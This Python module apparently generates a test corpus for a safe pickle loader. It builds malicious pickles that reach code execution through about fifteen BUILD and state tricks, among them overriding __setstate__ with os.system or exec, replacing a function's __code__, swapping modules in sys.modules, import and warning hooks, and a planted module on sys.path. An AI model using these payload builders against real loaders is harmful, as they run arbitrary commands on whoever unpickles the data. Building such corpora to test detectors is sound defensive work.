"""BUILD: states that set methods, that change classes, modules and functions, and what runs through them."""

from __future__ import annotations

import marshal
from collections.abc import Callable

from corpus.assembler import APPEND, EXEC, POP, SETITEM, SYSTEM, Op, build, call, name, pickled, text, value
from corpus.entry import Place, Technique
from corpus.evaluation import any_arguments

_EMPTY = call(name("types", "SimpleNamespace"))


def _evil_module(place: Place) -> dict[str, bytes]:
    made = pickled(
        name("sys", "path") + text(str(place.folder)) + APPEND + POP + name("safeload_corpus_evil", "value")
    )
    return {"": made, "safeload_corpus_evil.py": f"{place.code}\nvalue = 1\n".encode()}


def _code(place: Place) -> Op:
    code = compile(f"def f(*arguments):\n import builtins\n builtins.{place.code}", "x", "exec").co_consts[0]
    return call(name("marshal", "loads"), marshal.dumps(code))


_WAYS: dict[str, tuple[str, Callable[[Place], bytes]]] = {
    "__setstate__ of an instance": (
        "the first state sets what the second calls",
        lambda p: build(build(_EMPTY, {"__setstate__": SYSTEM}), p.command),
    ),
    "__setstate__ of a partial": (
        "the same with exec",
        lambda p: build(build(_EMPTY, {"__setstate__": EXEC}), p.code),
    ),
    "slots of a class": (
        "a class gets another extend",
        lambda p: (
            build(
                name("collections", "UserList"),
                (None, {"extend": call(name("functools", "partial"), name("subprocess", "call"))}),
            )
            + POP
            + call(name("collections", "UserList"))
            + b"("
            + text("touch")
            + text(p.marker)
            + b"e"
        ),
    ),
    "slots of a class, items": (
        "a class gets another __setitem__",
        lambda p: (
            build(name("collections", "UserDict"), (None, {"__setitem__": EXEC}))
            + POP
            + call(name("collections", "UserDict"))
            + text(p.code)
            + value({})
            + SETITEM
        ),
    ),
    "slots of a class, state": (
        "a class gets a __setstate__",
        lambda p: (
            build(name("fractions", "Fraction"), (None, {"__setstate__": EXEC}))
            + POP
            + name("fractions", "Fraction")
            + value(())
            + b"\x81"
            + text(p.code)
            + b"b"
        ),
    ),
    "dictionary of a module": (
        "a module's function is replaced, then asked for",
        lambda p: (
            build(name("shutil", "fnmatch"), {"translate": SYSTEM})
            + POP
            + call(name("fnmatch", "translate"), p.command)
        ),
    ),
    "slots of a module": (
        "the same by setattr",
        lambda p: (
            build(name("shutil", "fnmatch"), (None, {"translate": SYSTEM}))
            + POP
            + call(name("fnmatch", "translate"), p.command)
        ),
    ),
    "code of a function": (
        "a harmless function gets other code",
        lambda p: (
            build(name("textwrap", "dedent"), (None, {"__code__": _code(p)}))
            + POP
            + call(name("textwrap", "dedent"), "x")
        ),
    ),
    "loaded modules": (
        "a module is put in another's place",
        lambda p: (
            name("sys", "modules")
            + text("colorsys")
            + name("shutil", "os")
            + SETITEM
            + POP
            + call(name("colorsys", "system"), p.command)
        ),
    ),
    "class of an instance": (
        "an instance becomes one of another class",
        lambda p: call(
            name("operator", "call"),
            build(
                call(call(name("builtins", "type"), "A", (), {})),
                (
                    None,
                    {"__class__": call(name("builtins", "type"), "B", (), {"__call__": any_arguments(p)})},
                ),
            ),
        ),
    ),
    "environment": (
        "a variable that the next program started reads, and that program",
        lambda p: (
            name("os", "environ")
            + text("SAFELOAD_CORPUS")
            + text(p.marker)
            + SETITEM
            + POP
            + call(name("subprocess", "getoutput"), 'touch "$SAFELOAD_CORPUS"')
        ),
    ),
    "import system": (
        "a hook for imports, then an import",
        lambda p: (
            name("sys", "meta_path")
            + build(_EMPTY, {"find_spec": any_arguments(p)})
            + APPEND
            + POP
            + name("safeload_corpus_missing", "x")
        ),
    ),
    "pickle's own table": (
        "a reducer is registered, then something is copied",
        lambda p: (
            call(name("copyreg", "pickle"), name("types", "SimpleNamespace"), any_arguments(p))
            + POP
            + call(name("copy", "copy"), _EMPTY)
        ),
    ),
    "type of a warning": (
        "a hook for warnings, then one",
        lambda p: (
            call(name("builtins", "setattr"), name("logging", "warnings"), "showwarning", any_arguments(p))
            + POP
            + call(name("warnings", "simplefilter"), "always")
            + POP
            + call(name("warnings", "warn"), "x")
        ),
    ),
}

TECHNIQUES = [
    *(
        Technique(f"state {way}", "states", about, lambda place, made=made: pickled(made(place)))
        for way, (about, made) in _WAYS.items()
    ),
    Technique(
        "state import path",
        "states",
        "a folder is put on the path, and a module beside the file imported",
        _evil_module,
    ),
]
